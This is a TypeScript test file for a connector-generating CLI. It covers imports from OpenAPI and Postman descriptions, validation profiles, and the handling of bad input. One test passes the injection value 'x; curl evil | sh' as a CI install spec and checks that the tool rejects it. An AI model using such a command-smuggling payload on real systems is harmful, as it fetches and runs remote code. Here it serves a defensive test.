/** The "done means" for the given descriptions: each generates a connector (CLI `new --from-...`, all
 * operations) with no errors and no warnings under the server profile; under certification the only findings
 * are missing output schemas, and only where the description gives no response schema or example. */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadDescription } from '../../src/main/services/api-import/load';
import { createValidateService } from '../../src/main/services/validate';
import { REPO_ROOT, tmpDir } from '../helpers/tmp';
import { runNew } from './run-new';

const FIXTURES = path.join(REPO_ROOT, 'tests', 'fixtures', 'api-descriptions');

const show = (f: { severity: string; rule: string; path: string; pointer?: string; message: string }) => `${f.severity} ${f.rule} ${f.path}#${f.pointer ?? ''}: ${f.message}`;

const CASES = [
  { file: 'tenable-platform.openapi.yaml', flag: '--from-openapi', found: 38 },
  { file: 'kenna.postman_collection.json', flag: '--from-postman', found: 103 },
  { file: 'cloudlock.postman_collection.json', flag: '--from-postman', found: 14 },
];

describe('connectors generated from the real descriptions', () => {
  const validate = createValidateService();

  it.each(CASES)('$file: server profile clean; certification only flags outputs the description does not give', async ({ file, flag, found }) => {
    const work = await tmpDir('api-import-');
    const name = file.split('.')[0]?.replace(/[^a-z]/g, '_') as string;
    const r = await runNew(work, name, flag, path.join(FIXTURES, file), '--all', '--certified', '--json');
    expect(r.code, r.err).toBe(0);
    const created = JSON.parse(r.out) as { projectRoot: string; operations: number; found: number };
    expect(created.found).toBe(found);
    expect(created.operations).toBe(found);

    const server = await validate.validateFolder(created.projectRoot);
    expect(server.findings.filter((f) => f.severity !== 'info').map(show)).toEqual([]);

    const cert = await validate.validateFolder(created.projectRoot, { profile: 'certification' });
    const d = await loadDescription({ text: await readFile(path.join(FIXTURES, file), 'utf8'), fileName: file });
    const withoutOutput = new Set(d.operations.filter((o) => !o.response || o.response.binary || (o.response.schema === undefined && o.response.example === undefined)).map((o) => o.id));
    const isAllowed = (f: { rule: string; pointer?: string }) => {
      const index = /^\/operations\/(\d+)\/output_schema$/.exec(f.pointer ?? '')?.[1];
      const op = index === undefined ? undefined : d.operations[Number(index)];
      return f.rule === 'cert-output-schema-missing' && op !== undefined && withoutOutput.has(op.id);
    };
    expect(cert.findings.filter((f) => !isAllowed(f)).map(show)).toEqual([]);
    const missing = cert.findings.length;
    console.log(`${file}: ${d.operations.length} operations found, ${created.operations} generated; certification: ${missing} missing-output-schema finding(s), ${withoutOutput.size} operation(s) without a response schema or example`);
  });
});

describe('new --from-... on the command line', () => {
  it('exits 2 with the parser message and line when the description is broken', async () => {
    const work = await tmpDir('api-import-bad-');
    const { writeFile } = await import('node:fs/promises');
    await writeFile(path.join(work, 'broken.json'), '{\n  "openapi": "3.0.0",\n  "paths": {\n    "/a": {,}\n  }\n}\n');
    const r = await runNew(work, 'broken', '--from-openapi', 'broken.json');
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/broken\.json: line 4: .*JSON/);
  });

  it('--list-operations prints the ids without generating; --operations picks them', async () => {
    const work = await tmpDir('api-import-list-');
    const cloudlock = path.join(FIXTURES, 'cloudlock.postman_collection.json');
    const list = await runNew(work, '--from-postman', cloudlock, '--list-operations');
    expect(list.code, list.err).toBe(0);
    expect(list.out.split('\n')).toHaveLength(14);
    expect(list.out).toMatch(/^\* list_activities +GET +\/activities +\[Activities\]$/m);
    const r = await runNew(work, 'cloudlock', '--from-postman', cloudlock, '--operations', 'list_activities,nope');
    expect(r.code).toBe(2);
    expect(r.err).toContain('No operation nope in the description');
  });

  it('--ci-install sets where the project\'s CI workflow installs Connector Studio from; a hostile one writes nothing', async () => {
    const work = await tmpDir('api-import-ci-');
    const cloudlock = path.join(FIXTURES, 'cloudlock.postman_collection.json');
    const spec = 'git+https://github.com/acme/connector-studio.git#v1.2.0';
    const r = await runNew(work, 'cloudlock', '--from-postman', cloudlock, '--ci-install', spec, '--json');
    expect(r.code, r.err).toBe(0);
    const { projectRoot } = JSON.parse(r.out) as { projectRoot: string };
    expect(await readFile(path.join(projectRoot, '.github', 'workflows', 'connector.yml'), 'utf8')).toContain(`npm install -g ${spec}`);
    const bad = await runNew(work, 'hostile', '--from-postman', cloudlock, '--ci-install', 'x; curl evil | sh');
    expect(bad.code).toBe(2);
    const { readdir } = await import('node:fs/promises');
    expect((await readdir(work)).filter((f) => f.startsWith('hostile'))).toEqual([]);
  });
});
